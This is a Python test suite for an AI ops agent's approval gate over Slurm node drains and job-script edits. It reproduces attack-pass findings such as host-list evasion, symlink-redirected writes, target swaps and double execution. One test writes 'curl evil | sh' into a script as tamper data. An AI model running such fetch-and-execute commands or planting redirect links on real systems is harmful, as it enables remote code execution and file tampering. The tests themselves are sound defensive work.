"""Holes an attack pass found around the gate, each reproduced first (these failed on the main
before the fix): a host list counted as one node, a write redirected by a planted link, an
action executed twice, and a crash between start and result rerun. The real-Slurm halves of
these are in test_attacks_slurm.py."""

from __future__ import annotations

import os
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from goodput_agent.approval import store
from goodput_agent.approval.gate import (
    GateRefused,
    action_status,
    approve_action,
    execute_action,
    preview_action,
)
from goodput_agent.approval.policy import parse_policy
from goodput_agent.toolkit import GATE_APPROVAL, GATE_TARGET, ActionTarget, ToolContext, registry
from tests.approval.conftest import make_investigation, policy_text
from tests.approval.identities import me, person

T0 = datetime(2026, 6, 1, 12, 0, tzinfo=UTC)


def _drain(ledger, node: str, target: str = "bundle-a") -> int:  # noqa: ANN001
    _, ids = make_investigation(ledger, "gpu_hardware", {
        "slurm_drain_node": {"node": node, "reason": "goodput: Xid 79"}}, node="gpu-node-01",
        target=target)
    return ids["slurm_drain_node"]


def _unchecked_claims():  # noqa: ANN202 - a policy that lets a claim on one node cover others
    allowed = f'approvers: [alice, "group:sre", {me()}]'
    return parse_policy(policy_text().replace(
        allowed + "}", allowed + ", preconditions: {claim_names_target: false}}"),
        "unchecked.yaml")


def test_a_host_list_is_acted_on_only_where_a_claim_names_each_host(  # noqa: ANN001
        ledger, policy, recorder) -> None:
    aid = _drain(ledger, "gpu-node-[01-04]")
    p = preview_action(ledger, aid, policy, recorder.context())
    assert "NodeName=gpu-node-01,gpu-node-02,gpu-node-03,gpu-node-04" in (p.command or "")
    assert "gpu-node-02, gpu-node-03, gpu-node-04" in " ".join(p.reasons)
    with pytest.raises(GateRefused, match="names node gpu-node-01, not gpu-node-02, "
                                          "gpu-node-03, gpu-node-04"):
        approve_action(ledger, aid, person("alice"), policy)
    assert recorder.calls == []


def test_a_host_list_counts_every_host_against_the_daily_limit(ledger, recorder) -> None:  # noqa: ANN001
    policy = _unchecked_claims()
    aid = _drain(ledger, "gpu-node-[01-04]")
    approve_action(ledger, aid, person("alice"), policy)
    with pytest.raises(GateRefused, match="blast radius: 4 nodes .* exceed the policy's 2"):
        execute_action(ledger, aid, recorder.context(), policy)
    assert recorder.calls == []


def test_scope_globs_are_matched_per_host(ledger, recorder) -> None:  # noqa: ANN001
    text = policy_text(slurm_drain_node='{enabled: true, approvers: [alice], '
                                        'scope: {nodes: ["gpu-node-0[12]"]}}')
    policy = parse_policy(text, "scoped.yaml")
    aid = _drain(ledger, "gpu-node-[01-03]")
    with pytest.raises(GateRefused, match="node gpu-node-03 is outside the policy's scope"):
        approve_action(ledger, aid, person("alice"), policy)
    assert recorder.calls == []


@pytest.mark.parametrize("node", ["gpu-node-[01-", "gpu-node-[04-01]", "n[1-100000]",
                                  "gpu-node-[01-99],gpu-node-[100-300]"])
def test_a_host_list_that_cannot_be_expanded_is_refused(node: str, ledger, policy,  # noqa: ANN001
                                                        recorder) -> None:
    aid = _drain(ledger, node)
    with pytest.raises(GateRefused, match="invalid arguments for slurm_drain_node: node"):
        approve_action(ledger, aid, person("alice"), policy)
    assert recorder.calls == []


def test_a_retry_excluding_a_host_list_that_covers_the_faulty_node_passes(  # noqa: ANN001
        ledger, policy, recorder) -> None:
    _, ids = make_investigation(ledger, "gpu_hardware", {
        "slurm_requeue_job": {"job": "4242", "exclude": ["gpu-node-[02-04]"]}})
    approve_action(ledger, ids["slurm_requeue_job"], person("alice"), policy)
    assert execute_action(ledger, ids["slurm_requeue_job"], recorder.context(), policy).ok
    argv = registry()["slurm_requeue_job"].preview(recorder.context(), registry()[
        "slurm_requeue_job"].input_model.model_validate(
        {"job": "4242", "exclude": ["gpu-node-[02-04]"]})).command
    assert "ExcNodeList=gpu-node-02,gpu-node-03,gpu-node-04" in argv


# --- writes that cannot be redirected -----------------------------------------------------

def _config_case(tmp_path: Path, ledger):  # noqa: ANN001, ANN202
    inside = tmp_path / "jobs"
    inside.mkdir()
    script = inside / "job.sbatch"
    script.write_text("#!/bin/bash\n#SBATCH --mem=64G\nsrun python train.py\n")
    policy = parse_policy(policy_text(config_change='{enabled: true, approvers: [alice], '
                                                    f'scope: {{paths: ["{inside}/*"]}}}}'),
                          "paths.yaml")
    _, ids = make_investigation(ledger, "host_oom", {"config_change": {
        "path": str(script), "edits": [{"old": "--mem=64G", "new": "--mem=128G"}]}})
    return script, policy, ids["config_change"]


def test_a_link_planted_at_the_old_temp_name_redirects_nothing(tmp_path: Path, ledger) -> None:  # noqa: ANN001
    script, policy, aid = _config_case(tmp_path, ledger)
    outside = tmp_path / "outside.txt"
    outside.write_text("precious\n")
    Path(f"{script}.goodput-tmp").symlink_to(outside)
    approve_action(ledger, aid, person("alice"), policy)
    assert execute_action(ledger, aid, ToolContext(), policy).ok
    assert outside.read_text() == "precious\n"
    assert "--mem=128G" in script.read_text() and not script.is_symlink()
    leftovers = [p.name for p in script.parent.iterdir()
                 if p.name.endswith(".goodput-tmp") and not p.is_symlink()]
    assert leftovers == []


def test_a_target_linked_outside_the_scope_is_refused(tmp_path: Path, ledger) -> None:  # noqa: ANN001
    script, policy, aid = _config_case(tmp_path, ledger)
    outside = tmp_path / "etc-hosts"
    outside.write_text(script.read_text())
    script.unlink()
    script.symlink_to(outside)
    with pytest.raises(GateRefused, match="outside the files the policy lets"):
        approve_action(ledger, aid, person("alice"), policy)
    assert "--mem=64G" in outside.read_text()


def test_a_target_changed_after_approval_is_refused(tmp_path: Path, ledger) -> None:  # noqa: ANN001
    script, policy, aid = _config_case(tmp_path, ledger)
    approve_action(ledger, aid, person("alice"), policy)
    script.write_text(script.read_text() + "curl evil | sh\n")
    with pytest.raises(GateRefused, match="the target changed since approval"):
        execute_action(ledger, aid, ToolContext(), policy)
    assert "--mem=64G" in script.read_text()


def test_a_target_swapped_after_the_checks_is_not_written(tmp_path: Path) -> None:
    """The tool itself refuses a path that resolves elsewhere than the gate checked."""
    script = tmp_path / "job.sbatch"
    script.write_text("--mem=64G\n")
    other = tmp_path / "other.sbatch"
    other.write_text("--mem=64G\n")
    tool = registry()["config_change"]
    args = tool.input_model.model_validate({"path": str(script), "edits": [
        {"old": "--mem=64G", "new": "--mem=128G"}]})
    tokens = GATE_APPROVAL.set(1), GATE_TARGET.set(ActionTarget(paths=[str(other)]))
    try:
        with pytest.raises(PermissionError, match="not the file the policy checked"):
            tool.run(ToolContext(), args)
    finally:
        GATE_TARGET.reset(tokens[1])
        GATE_APPROVAL.reset(tokens[0])
    assert script.read_text() == "--mem=64G\n"


def test_the_written_file_keeps_its_mode(tmp_path: Path, ledger) -> None:  # noqa: ANN001
    script, policy, aid = _config_case(tmp_path, ledger)
    script.chmod(0o750)
    approve_action(ledger, aid, person("alice"), policy)
    assert execute_action(ledger, aid, ToolContext(), policy).ok
    assert os.stat(script).st_mode & 0o777 == 0o750


# --- one execution per action ---------------------------------------------------------------

def test_a_spare_approval_never_executes_the_action_again(ledger, policy,  # noqa: ANN001
                                                          recorder) -> None:
    _, ids = make_investigation(ledger, "gpu_hardware", {
        "slurm_drain_node": {"node": "gpu-node-01", "reason": "x"}}, node="gpu-node-01")
    aid = ids["slurm_drain_node"]
    approve_action(ledger, aid, person("alice"), policy, now=T0)  # a page approval ...
    approve_action(ledger, aid, person("bob"), policy, now=T0)  # ... and a CLI one
    assert execute_action(ledger, aid, recorder.context(), policy, now=T0).ok
    with pytest.raises(GateRefused, match="already executed"):
        execute_action(ledger, aid, recorder.context(), policy, now=T0)
    with pytest.raises(GateRefused, match="already executed"):
        approve_action(ledger, aid, person("alice"), policy, now=T0)
    assert len(recorder.calls) == 1


def test_the_run_row_makes_a_second_start_impossible(ledger, policy) -> None:  # noqa: ANN001
    """Even past every status check (two processes racing), the primary key refuses."""
    _, ids = make_investigation(ledger, "gpu_hardware", {
        "slurm_drain_node": {"node": "gpu-node-01", "reason": "x"}}, node="gpu-node-01")
    action = store.action_row(ledger, ids["slurm_drain_node"])
    store.start_execution(ledger, action, "alice", 1, T0)
    with pytest.raises(store.AlreadyStarted):
        store.start_execution(ledger, action, "bob", 2, T0)
    kinds = [e.kind for e in store.events(ledger, action.id)]
    assert kinds == ["execution_started"]  # the second transaction left nothing behind


def test_a_start_without_a_result_blocks_reruns_and_counts_as_drained(  # noqa: ANN001
        ledger, recorder) -> None:
    """The state a kill -9 between the command and its result row leaves."""
    policy = _unchecked_claims()
    first = _drain(ledger, "gpu-node-01", target="a")
    approve_action(ledger, first, person("alice"), policy, now=T0)
    action = store.action_row(ledger, first)
    target = registry()["slurm_drain_node"].target(registry()[
        "slurm_drain_node"].input_model.model_validate(action.args))
    store.start_execution(ledger, action, "alice", 1, T0,
                          detail={"args": action.args, "target": target.model_dump()})
    assert action_status(ledger, first) == "executing"
    with pytest.raises(GateRefused, match="already executing"):
        approve_action(ledger, first, person("bob"), policy, now=T0)
    with pytest.raises(GateRefused, match="already executing"):
        execute_action(ledger, first, recorder.context(), policy, now=T0)
    second = _drain(ledger, "gpu-node-[02-03]", target="b")
    approve_action(ledger, second, person("alice"), policy, now=T0 + timedelta(hours=1))
    with pytest.raises(GateRefused, match=r"blast radius: 3 nodes .*\(gpu-node-01\)"):
        execute_action(ledger, second, recorder.context(), policy, now=T0 + timedelta(hours=1))
    assert recorder.calls == []
